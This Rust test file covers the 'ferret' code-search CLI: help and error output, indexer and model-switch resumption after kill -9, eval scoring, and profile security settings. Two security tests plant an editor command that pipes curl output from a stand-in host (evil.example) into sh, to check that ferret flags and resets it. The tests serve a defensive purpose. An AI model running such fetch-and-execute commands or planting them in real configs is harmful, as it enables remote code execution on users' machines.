//! The `ferret` binary as users and scripts call it: help, JSON shapes, one-line errors, and
//! an indexer killed mid-run that resumes to exactly what a clean run produces.

use std::path::Path;
use std::process::Stdio;
use std::time::{Duration, Instant};

use crate::common::{
    chunk_set, ferret, fixture, model_vector_count, run_ok, vector_count, DEFAULT_MODEL,
};

#[test]
fn help_is_available_everywhere() {
    let data = tempfile::tempdir().unwrap();
    for args in [
        vec!["--help"],
        vec!["repo", "--help"],
        vec!["repo", "add", "--help"],
        vec!["repo", "list", "--help"],
        vec!["repo", "remove", "--help"],
        vec!["index", "--help"],
        vec!["search", "--help"],
        vec!["stats", "--help"],
        vec!["bench", "--help"],
        vec!["eval", "--help"],
        vec!["model", "--help"],
        vec!["model", "use", "--help"],
    ] {
        let out = run_ok(ferret(data.path()).args(&args));
        assert!(
            String::from_utf8_lossy(&out.stdout).contains("Usage"),
            "{args:?}"
        );
    }
}

#[test]
fn errors_are_one_clear_line_and_a_failure_status() {
    let data = tempfile::tempdir().unwrap();
    for (args, needle) in [
        (vec!["repo", "add", "/no/such/dir"], "/no/such/dir"),
        (vec!["repo", "remove", "ghost"], "ferret repo list"),
        (vec!["index"], "ferret repo add"),
        (
            vec!["search", "x", "--mode", "fuzzy"],
            "hybrid, lexical or semantic",
        ),
        (vec!["search", "repo: x"], "repo:ripgrep"),
    ] {
        let out = ferret(data.path()).args(&args).output().unwrap();
        assert!(!out.status.success(), "{args:?} succeeded");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(stderr.trim_end().lines().count(), 1, "{args:?}: {stderr}");
        assert!(stderr.starts_with("ferret: error: "), "{args:?}: {stderr}");
        assert!(stderr.contains(needle), "{args:?}: {stderr}");
    }
}

/// `ferret search … | head -c 100`: the reader goes away mid-output and ferret stops
/// quietly, as ripgrep does, instead of panicking with "failed printing to stdout".
#[test]
fn a_closed_pipe_ends_output_quietly() {
    use std::io::Read;
    let data = tempfile::tempdir().unwrap();
    let repo = data.path().join("big");
    make_big_repo(&repo);
    run_ok(ferret(data.path()).args(["repo", "add", repo.to_str().unwrap(), "--no-index"]));
    run_ok(ferret(data.path()).args(["index", "--lexical-only"]));
    // 200 hits with snippets: far more than a pipe holds, so writes fail once it closes.
    let mut child = ferret(data.path())
        .args([
            "search",
            "input scaled module",
            "--mode",
            "lexical",
            "-n",
            "200",
            "--json",
        ])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdout = child.stdout.take().unwrap();
    let mut first = [0u8; 100];
    stdout.read_exact(&mut first).unwrap();
    drop(stdout);
    let out = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        !stderr.contains("panicked") && !stderr.contains("Broken pipe"),
        "a closed pipe must not be a crash: {stderr}"
    );
}

/// A repository big enough that indexing takes a few seconds.
fn make_big_repo(root: &Path) {
    for i in 0..60 {
        let dir = root.join(format!("mod{}", i % 6));
        std::fs::create_dir_all(&dir).unwrap();
        let mut text = String::new();
        for j in 0..4 {
            text.push_str(&format!(
                "/// Computes value {j} of module {i} from the input.\npub fn compute_{i}_{j}(input: u64) -> u64 {{\n    let scaled = input * {j} + {i};\n    scaled.rotate_left({j})\n}}\n\n"
            ));
        }
        std::fs::write(dir.join(format!("file{i}.rs")), text).unwrap();
    }
}

fn stats(data: &Path) -> serde_json::Value {
    let out = run_ok(ferret(data).args(["stats", "--json"]));
    serde_json::from_slice(&out.stdout).unwrap()
}

#[test]
fn killed_indexer_resumes_to_the_same_index_as_a_clean_run() {
    let src = tempfile::tempdir().unwrap();
    make_big_repo(src.path());

    let clean = tempfile::tempdir().unwrap();
    run_ok(
        ferret(clean.path())
            .args(["repo", "add", "--name", "big"])
            .arg(src.path()),
    );
    run_ok(ferret(clean.path()).args(["index", "--threads", "1"]));
    let clean_stats = stats(clean.path());

    let killed = tempfile::tempdir().unwrap();
    run_ok(
        ferret(killed.path())
            .args(["repo", "add", "--name", "big"])
            .arg(src.path()),
    );
    // Kill it at different depths: during the lexical phase, then during embedding.
    for wait_for_embedded in [0u64, 40, 120] {
        let mut child = ferret(killed.path())
            .args(["index", "--threads", "1"])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let deadline = Instant::now() + Duration::from_secs(120);
        loop {
            std::thread::sleep(Duration::from_millis(50));
            if child.try_wait().unwrap().is_some() {
                break;
            }
            let s = stats(killed.path());
            let progressed = if wait_for_embedded == 0 {
                s["chunks"].as_u64().unwrap_or(0) > 0
            } else {
                s["embedded_chunks"].as_u64().unwrap_or(0) >= wait_for_embedded
            };
            if progressed || Instant::now() > deadline {
                break;
            }
        }
        let _ = child.kill(); // SIGKILL: no chance to clean up
        let _ = child.wait();
    }
    run_ok(ferret(killed.path()).args(["index", "--threads", "1"]));
    let resumed_stats = stats(killed.path());

    for key in ["files", "chunks", "embedded_chunks", "pending_embeddings"] {
        assert_eq!(
            resumed_stats[key], clean_stats[key],
            "{key}: {resumed_stats} vs {clean_stats}"
        );
    }
    assert_eq!(resumed_stats["chunks"], resumed_stats["embedded_chunks"]);
    assert_eq!(
        chunk_set(killed.path()),
        chunk_set(clean.path()),
        "same chunks, no duplicates"
    );
    assert_eq!(
        vector_count(killed.path()),
        clean_stats["embedded_chunks"].as_u64().unwrap()
    );
    // Same results for the same query.
    let query = "compute value 3 of module 17";
    assert_eq!(top(killed.path(), query), top(clean.path(), query));
}

/// (path, start line) of each hit of `query`, in order.
fn top(data: &Path, query: &str) -> Vec<(serde_json::Value, serde_json::Value)> {
    let out = run_ok(ferret(data).args(["search", query, "--json"]));
    let found: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    found["results"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| (h["path"].clone(), h["start_line"].clone()))
        .collect()
}

const WINDOWED: &str = "all-minilm-l6-v2-int8-w4";

/// 260 functions (two embedding transactions and a bit), each long enough for the
/// windowed model to read in two windows.
fn make_long_functions(root: &Path) {
    for i in 0..52 {
        let mut text = String::new();
        for j in 0..5 {
            text.push_str(&format!(
                "/// Settles ledger {j} of branch {i}.\npub fn settle_{i}_{j}(rate: u64) -> u64 {{\n    let mut total = {i};\n"
            ));
            for k in 0..20 {
                text.push_str(&format!("    total += {k} * rate + {j};\n"));
            }
            text.push_str("    total\n}\n\n");
        }
        std::fs::write(root.join(format!("ledger{i}.rs")), text).unwrap();
    }
}

fn model_status(data: &Path) -> serde_json::Value {
    let out = run_ok(ferret(data).args(["model", "list", "--json"]));
    serde_json::from_slice(&out.stdout).unwrap()
}

/// A model switch re-embeds beside the old vectors: the old model serves searches until
/// the new set is complete, kill -9 mid-re-embed resumes with no duplicate or missing
/// vector, and the swap leaves only the new model's vectors.
#[test]
fn a_model_switch_killed_midway_resumes_and_swaps_once() {
    let src = tempfile::tempdir().unwrap();
    make_long_functions(src.path());
    let setup = |data: &Path| {
        run_ok(
            ferret(data)
                .args(["repo", "add", "--name", "books"])
                .arg(src.path()),
        );
        run_ok(ferret(data).args(["index", "--threads", "1"]));
    };

    // The reference: the same switch, uninterrupted.
    let clean = tempfile::tempdir().unwrap();
    setup(clean.path());
    run_ok(ferret(clean.path()).args(["model", "use", WINDOWED]));
    let clean_stats = stats(clean.path());
    let clean_vectors = model_vector_count(clean.path(), WINDOWED).unwrap();
    assert!(
        clean_vectors > clean_stats["chunks"].as_u64().unwrap(),
        "long functions have several windows: {clean_vectors} vectors"
    );

    let killed = tempfile::tempdir().unwrap();
    setup(killed.path());
    let before = stats(killed.path());
    assert_eq!(before["model_id"], DEFAULT_MODEL);
    // Recorded only: nothing embedded yet, the old model still active.
    run_ok(ferret(killed.path()).args(["model", "use", WINDOWED, "--later"]));
    let status = model_status(killed.path());
    assert_eq!(status["active"], DEFAULT_MODEL);
    assert_eq!(status["switch"]["to"], WINDOWED);
    let total = status["switch"]["total"].as_u64().unwrap();

    let mut child = ferret(killed.path())
        .args(["model", "use", WINDOWED])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let deadline = Instant::now() + Duration::from_secs(120);
    let mut killed_at = 0;
    loop {
        std::thread::sleep(Duration::from_millis(20));
        if child.try_wait().unwrap().is_some() {
            break;
        }
        let s = model_status(killed.path());
        let done = s["switch"]["embedded"].as_u64().unwrap_or(0);
        // After the first committed batch of the new model's vectors.
        if done >= 128 || Instant::now() > deadline {
            killed_at = done;
            // Mid-switch the old model serves, semantically too.
            assert_eq!(s["active"], DEFAULT_MODEL);
            let out = run_ok(ferret(killed.path()).args([
                "search",
                "settle ledger 2 of branch 5",
                "--mode",
                "semantic",
                "--json",
            ]));
            let found: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
            assert!(!found["results"].as_array().unwrap().is_empty());
            break;
        }
    }
    let _ = child.kill(); // SIGKILL
    let _ = child.wait();
    assert!(
        killed_at > 0 && killed_at < total,
        "killed midway ({killed_at}/{total})"
    );
    let mid = model_status(killed.path());
    assert_eq!(mid["active"], DEFAULT_MODEL, "no swap before completion");

    run_ok(ferret(killed.path()).args(["model", "use", WINDOWED]));
    let after = model_status(killed.path());
    assert_eq!(after["active"], WINDOWED);
    assert!(after["switch"].is_null());
    let resumed = stats(killed.path());
    assert_eq!(resumed["model_id"], WINDOWED);
    for key in ["chunks", "embedded_chunks", "pending_embeddings"] {
        assert_eq!(
            resumed[key], clean_stats[key],
            "{key}: {resumed} vs {clean_stats}"
        );
    }
    assert_eq!(
        model_vector_count(killed.path(), WINDOWED),
        Some(clean_vectors),
        "no duplicate or missing window"
    );
    assert_eq!(
        model_vector_count(killed.path(), DEFAULT_MODEL),
        None,
        "the old model's vectors are gone"
    );
    let conn =
        rusqlite::Connection::open(killed.path().join("user_data/default/meta.sqlite")).unwrap();
    let models: Vec<String> = conn
        .prepare("SELECT DISTINCT model_id FROM embeddings")
        .unwrap()
        .query_map([], |r| r.get(0))
        .unwrap()
        .map(Result::unwrap)
        .collect();
    assert_eq!(
        models,
        [WINDOWED],
        "only the new model's embeddings are kept"
    );
    // Same answers as the uninterrupted switch.
    let query = "settle ledger 2 of branch 5";
    assert_eq!(top(killed.path(), query), top(clean.path(), query));

    // An unknown model is refused with the list of known ones.
    let out = ferret(killed.path())
        .args(["model", "use", "nope"])
        .output()
        .unwrap();
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("unknown model") && err.contains(WINDOWED),
        "{err}"
    );
}

/// `ferret eval` on a small fixture set: per mode, per kind and per repository, the
/// dev/check split, the "no strong match" flag's rates, and a run compared with a saved one.
#[test]
fn eval_scores_a_fixture_set_by_mode_kind_and_split() {
    let data = tempfile::tempdir().unwrap();
    let cases = fixture().join("../eval-polyglot.jsonl");
    let eval = |args: &[&str]| {
        let mut cmd = ferret(data.path());
        cmd.env("FERRET_EVAL_REPO_POLYGLOT", fixture())
            .arg("eval")
            .arg(&cases)
            .args(args);
        run_ok(&mut cmd)
    };
    let out = eval(&["--json"]);
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let modes: Vec<&str> = report["modes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["mode"].as_str().unwrap())
        .collect();
    assert_eq!(modes, ["lexical", "semantic", "hybrid"]);
    for m in report["modes"].as_array().unwrap() {
        assert_eq!(m["cases"], 5);
    }
    let hybrid = report["modes"]
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["mode"] == "hybrid")
        .unwrap();
    assert!(hybrid["recall_at_10"].as_f64().unwrap() >= 0.8, "{hybrid}");
    // The identifier cases are found first by the lexical ranking and kept first by fusion.
    for c in report["cases"].as_array().unwrap() {
        if c["kind"] == "identifier" && c["mode"] != "semantic" && c["unanswerable"] == false {
            assert_eq!(c["rank"], 1, "{c}");
        }
    }
    let group = |by: &str, name: &str| {
        report["groups"]
            .as_array()
            .unwrap()
            .iter()
            .find(|g| g["by"] == by && g["name"] == name && g["mode"] == "hybrid")
            .cloned()
            .unwrap_or_else(|| panic!("no {by} {name}"))
    };
    assert_eq!(group("kind", "identifier")["cases"], 2);
    assert_eq!(group("kind", "behaviour")["cases"], 2);
    assert_eq!(group("kind", "conceptual")["cases"], 1);
    assert_eq!(group("repo", "polyglot")["cases"], 5);
    // The two unanswerable questions are flagged in hybrid mode, the five answerable ones
    // are not.
    let flags = report["flags"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["mode"] == "hybrid" && f["split"] == "all" && f["query_kind"] == "all")
        .cloned()
        .expect("the flag's rates over both halves");
    assert_eq!(flags["unanswerable"], 2, "{flags}");
    assert_eq!(flags["unanswerable_flagged"], 2, "{flags}");
    assert_eq!(flags["answerable"], 5, "{flags}");
    assert_eq!(flags["answerable_flagged"], 0, "{flags}");

    // One half only, saved, then compared with itself: nothing moved.
    let saved = data.path().join("run.json");
    let out = eval(&[
        "--split",
        "check",
        "--no-index",
        "--save",
        saved.to_str().unwrap(),
    ]);
    let text = String::from_utf8_lossy(&out.stdout).to_string();
    assert!(text.contains("(3 answerable cases)"), "{text}");
    assert!(
        text.contains("by kind") && text.contains("by repo"),
        "{text}"
    );
    assert!(
        text.contains("no strong match: unanswerable flagged / answerable flagged"),
        "{text}"
    );
    let out = eval(&[
        "--split",
        "check",
        "--no-index",
        "--compare",
        saved.to_str().unwrap(),
    ]);
    let text = String::from_utf8_lossy(&out.stdout).to_string();
    assert!(
        text.contains("(=)") && !text.contains("cases that moved"),
        "{text}"
    );
    // A bad split is a clear error.
    let out = ferret(data.path())
        .arg("eval")
        .arg(&cases)
        .args(["--split", "tune"])
        .output()
        .unwrap();
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("use dev or check"));
}

/// `profile show` lists the settings that let Ferret run, load or open something unasked
/// (as an imported backup could set them, with a link grant in the name-keyed form of
/// earlier releases), and `profile set --reset` / `--revoke-link` take each one back.
#[test]
fn security_settings_are_shown_and_reset() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    for name in ["api", "web"] {
        std::fs::create_dir_all(tmp.path().join(name)).unwrap();
        run_ok(
            ferret(&data)
                .args(["repo", "add"])
                .arg(tmp.path().join(name)),
        );
    }
    std::fs::write(
        data.join("user_data/default/config.json"),
        r#"{"editor": "custom", "editor_command": "sh -c 'curl x | sh' {path}",
            "model_dir": "/tmp/planted", "index_secret_files": true,
            "link_open_repos": ["api", "web", "gone"]}"#,
    )
    .unwrap();
    let show = |json: bool| {
        let mut cmd = ferret(&data);
        cmd.args(["profile", "show"]);
        if json {
            cmd.arg("--json");
        }
        String::from_utf8(run_ok(&mut cmd).stdout).unwrap()
    };
    let text = show(false);
    for needle in [
        "runs \"sh -c 'curl x | sh' {path}\"",
        "/tmp/planted (set by this profile)",
        "secrets   INDEXED",
        "open files of api, web without asking",
        "`ferret profile set default --reset model-dir` resets it",
    ] {
        assert!(text.contains(needle), "{needle:?} not in:\n{text}");
    }
    let shown: serde_json::Value = serde_json::from_str(&show(true)).unwrap();
    assert_eq!(shown["repos"], 2, "the profile's figures are still there");
    let security = &shown["security"];
    assert_eq!(security["model_dir"], "/tmp/planted");
    assert_eq!(security["index_secret_files"], true);
    let grants: Vec<&str> = security["link_grants"]
        .as_array()
        .unwrap()
        .iter()
        .map(|g| g["repo"].as_str().unwrap())
        .collect();
    assert_eq!(
        grants,
        ["api", "web"],
        "names became ids; \"gone\" was dropped"
    );

    let out = run_ok(ferret(&data).args([
        "profile",
        "set",
        "default",
        "--reset",
        "editor-command",
        "--reset",
        "model-dir",
        "--reset",
        "index-secret-files",
        "--revoke-link",
        "web",
    ]));
    let said = String::from_utf8_lossy(&out.stdout);
    assert!(said.contains("results open in vscode"), "{said}");
    assert!(
        said.contains("ask again before opening files of web"),
        "{said}"
    );
    let security =
        serde_json::from_str::<serde_json::Value>(&show(true)).unwrap()["security"].clone();
    assert_eq!(security["editor"], "vscode");
    assert_eq!(security["editor_command"], serde_json::Value::Null);
    assert_eq!(security["model_dir"], serde_json::Value::Null);
    assert_eq!(security["index_secret_files"], false);
    assert_eq!(security["link_grants"][0]["repo"], "api");
    assert_eq!(security["link_grants"].as_array().unwrap().len(), 1);

    let out = ferret(&data)
        .args(["profile", "set", "default", "--revoke-link", "web"])
        .output()
        .unwrap();
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("has no \"always allow\""));
    run_ok(ferret(&data).args(["profile", "set", "default", "--reset", "link-grants"]));
    let text = show(false);
    assert!(
        text.contains("links     ask before opening any file"),
        "{text}"
    );
    assert!(
        !text.contains("`ferret profile set"),
        "everything is at its default:\n{text}"
    );
}

/// `ferret profile import` names the settings it reset and the local folders that wait for
/// confirmation, and `ferret repo confirm` lets such a folder in (issue 25: an archive is
/// a file anyone could have written).
#[test]
fn import_names_what_it_reset_and_the_folders_to_confirm() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let notes = dir.path().join("notes");
    std::fs::create_dir_all(&notes).unwrap();
    std::fs::write(
        notes.join("todo.py"),
        "def remember_the_milk():\n    pass\n",
    )
    .unwrap();
    run_ok(
        ferret(&data)
            .args(["repo", "add", "--name", "notes", "--no-index"])
            .arg(&notes),
    );
    // Settings a colleague's backup could carry.
    std::fs::write(
        data.join("user_data/default/config.json"),
        r#"{"editor": "custom", "editor_command": "sh -c 'curl -s https://evil.example | sh' {path}",
            "index_secret_files": true}"#,
    )
    .unwrap();
    let archive = dir.path().join("backup.tar.gz");
    run_ok(
        ferret(&data)
            .args(["profile", "export", "default", "--out"])
            .arg(&archive),
    );
    let out = run_ok(
        ferret(&data)
            .args(["profile", "import", "--as", "restored"])
            .arg(&archive),
    );
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("reset for safety: editor, editor_command, index_secret_files"),
        "{text}"
    );
    assert!(text.contains("`ferret repo confirm notes`"), "{text}");
    let list = run_ok(ferret(&data).args(["--profile", "restored", "repo", "list"]));
    assert!(
        String::from_utf8_lossy(&list.stdout).contains("ferret repo confirm"),
        "{}",
        String::from_utf8_lossy(&list.stdout)
    );
    let confirmed =
        run_ok(ferret(&data).args(["--profile", "restored", "repo", "confirm", "notes"]));
    assert!(
        String::from_utf8_lossy(&confirmed.stdout).contains("confirmed notes"),
        "{}",
        String::from_utf8_lossy(&confirmed.stdout)
    );
    let list = run_ok(ferret(&data).args(["--profile", "restored", "repo", "list"]));
    assert!(!String::from_utf8_lossy(&list.stdout).contains("confirm"));
}
